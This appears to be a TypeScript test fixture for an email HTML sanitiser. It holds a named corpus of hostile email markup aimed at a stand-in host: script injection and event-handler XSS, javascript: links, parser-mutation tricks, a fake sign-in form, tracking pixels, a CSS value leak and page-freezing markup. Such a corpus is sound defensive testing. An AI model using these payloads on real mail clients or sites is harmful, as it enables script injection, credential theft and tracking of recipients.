/** A host that must never receive a request. */
export const HOSTILE_HOST = 'hostile.example'
const U = `https://${HOSTILE_HOST}`
const RUN = "alert('PWNED')"
const svg = (content: string) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`)}`

/** HTML of emails that try to run, load, send or cover something. */
export const hostileHtml: Record<string, string> = {
  // Scripts
  script: `<script>${RUN}</script>`,
  'remote script': `<script src="${U}/x.js"></script>`,
  'module script': `<script type="module">import '${U}/x.js'</script>`,
  'unclosed script': `<script>${RUN}//`,
  'script in a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script in upper case': `<SCRIPT SRC=${U}/x.js></SCRIPT>`,
  // Event handlers
  'image error': `<img src="x:" onerror="${RUN}">`,
  'image error without quotes': `<img src=x: onerror=${RUN}>`,
  'image error after a slash': `<img/src="x:"/onerror="${RUN}">`,
  'pointer over': `<p onpointerover="${RUN}" style="width:5000px;height:50px">over</p>`,
  'focus on load': `<input autofocus onfocus="${RUN}">`,
  'details toggle': `<details open ontoggle="${RUN}">x</details>`,
  'animation start': `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${RUN}">x</p>`,
  'body load': `<body onload="${RUN}">x</body>`,
  'media error': `<video><source onerror="${RUN}" src="x:"></video><audio src="x:" onerror="${RUN}"></audio>`,
  // Links
  'javascript link': `<a href="javascript:${RUN}">link</a>`,
  'javascript link with a tab': `<a href="java&#9;script:${RUN}">link</a>`,
  'javascript link with entities': `<a href="&#x6A;avascript&colon;${RUN}">link</a>`,
  'javascript link for the whole window': `<a target="_top" href=" javascript:top.${RUN}">link</a>`,
  'data link': `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
  'vbscript link': `<a href="vbscript:msgbox(1)">link</a>`,
  'link with a ping': `<a ping="${U}/ping" name="x">link</a>`,
  'image map': `<img usemap="#m" width="300" height="300"><map name="m"><area shape="rect" coords="0,0,300,300" href="javascript:${RUN}"></map>`,
  // Forms
  form: `<form action="${U}/form" id="f"><input name="password" value="x"><button>Sign in</button></form>`,
  'form on the server': `<form action="/v1/session" method="post"><button>Sign out</button></form>`,
  'form action on a button': `<button form="f" formaction="javascript:${RUN}">Go</button>`,
  'image button': `<form action="${U}/form"><input type="image" src="${U}/button.png"></form>`,
  // Navigation
  refresh: `<meta http-equiv="refresh" content="0;url=${U}/refresh">`,
  'refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'refresh to data': `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
  base: `<base href="${U}/" target="_top"><a href="x">link</a><img src="pixel.png">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${RUN}</script>`,
  // Styles that load or report
  'style import': `<style>@import url("${U}/x.css");</style>`,
  'style background': `<style>body{background:url(${U}/bg.png)}</style>`,
  'inline background': `<p style="background:url('${U}/bg.png')">x</p>`,
  'escaped background': `<p style="background:u\\72l(${U}/bg.png)">x</p>`,
  'image set': `<p style="background:image-set('${U}/bg.png' 1x)">x</p>`,
  'font face': `<style>@font-face{font-family:a;src:url(${U}/a.woff2)}p{font-family:a}</style><p>x</p>`,
  'value leak': `<style>input[value^="x"]{background:url(${U}/leak?x)}</style><input value="x1">`,
  'list image': `<ul style="list-style:url(${U}/dot.png)"><li>x</li></ul>`,
  cursor: `<p style="cursor:url(${U}/c.cur),auto">x</p>`,
  'style sheet link': `<link rel="stylesheet" href="${U}/x.css">`,
  'prefetch and preconnect': `<link rel="prefetch" href="${U}/p"><link rel="preconnect" href="${U}"><link rel="dns-prefetch" href="${U}"><link rel="prerender" href="${U}/p">`,
  // Images that report
  'tracking pixel': `<img src="${U}/pixel.gif?who=ada" width="1" height="1">`,
  'image sources': `<img srcset="${U}/1.png 1x, ${U}/2.png 2x"><picture><source srcset="${U}/3.png"><img src="${U}/4.png"></picture>`,
  'old background': `<table background="${U}/table.png"><tr><td background="${U}/cell.png">x</td></tr></table>`,
  'image of the server': `<img src="/v1/session"><img src="//${HOSTILE_HOST}/pixel.png">`,
  'image by content id': `<img src="cid:../../v1/session"><img src="cid:x&quot; onerror=${RUN} x=&quot;">`,
  // Embedded documents
  frame: `<iframe src="${U}/frame"></iframe><iframe srcdoc="<script>top.${RUN}</script>"></iframe>`,
  'object and embed': `<object data="${U}/o"></object><embed src="${U}/e"><applet code="${U}/a"></applet>`,
  'object with data': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  'audio and video': `<video autoplay src="${U}/v.mp4" poster="${U}/v.png"><track src="${U}/v.vtt"></video>`,
  // Vector graphics
  'svg script': `<svg><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  'svg load': `<svg onload="${RUN}"><image href="${U}/i.png"/><use href="${U}/u.svg#x"/><animate onbegin="${RUN}"/></svg>`,
  'svg image with a script': `<img src="${svg(`<script>${RUN}</script><image href="${U}/i.png"/>`)}">`,
  // HTML that changes its meaning when it is parsed again
  'mutation in mathematics': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'mutation in noscript': `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  'mutation in a template': `<template><form><template></form><img src=x: onerror=${RUN}></template>`,
  'end of the frame': `</details></body></html><script>${RUN}</script><details><summary>Quoted text`,
  // HTML that makes the page unusable
  'fixed cover': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has expired</div>`,
  'giant table': `<table width="9999999" height="9999999">${`<tr>${'<td colspan="1000">x</td>'.repeat(20)}</tr>`.repeat(200)}</table>`,
  'deep nesting': `${'<div>'.repeat(4_000)}deep${'</div>'.repeat(4_000)}`,
  'nested tables and quotes': `${'<table><tr><td><blockquote>'.repeat(500)}deep`,
  'heavy styles': `<style>${'*:not(a):has(*>*~*){filter:blur(9px)}'.repeat(300)}</style><p style="filter:blur(999px);width:999999999px;font-size:99999px;line-height:99999">x</p>`,
  'endless animation': `<marquee scrollamount="9999">x</marquee><p style="animation:a 1ms infinite;transform:scale(99999)">x</p>`,
}
